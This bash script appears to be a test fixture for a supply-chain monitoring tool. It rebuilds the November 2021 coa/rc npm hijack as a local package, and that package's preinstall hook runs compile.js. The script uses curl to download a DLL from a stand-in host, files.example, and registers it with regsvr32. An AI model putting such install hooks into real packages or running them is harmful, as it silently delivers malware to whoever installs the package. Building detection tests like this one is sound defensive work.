#!/bin/bash
# A preinstall meant for another system: here it only starts a child that fetches a library.
#: tool npm
#: description a preinstall script starts node twice, which fetches a library for another system and fails to register it
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve files.example=203.0.113.10
#: finding new-host@curl
#: attack coa and rc, November 2021
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "coa", "version": "1.0.0", "scripts": {"preinstall": "node compile.js & node compile.js"}}' > package.json
  cat > compile.js <<'END'
const { spawnSync } = require('node:child_process');
spawnSync('curl', ['-s', 'http://files.example/sdd.dll', '-o', 'compile.dll']);
spawnSync('regsvr32', ['-s', 'compile.dll']);
END
  tar czf ~/coa.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/coa.tgz
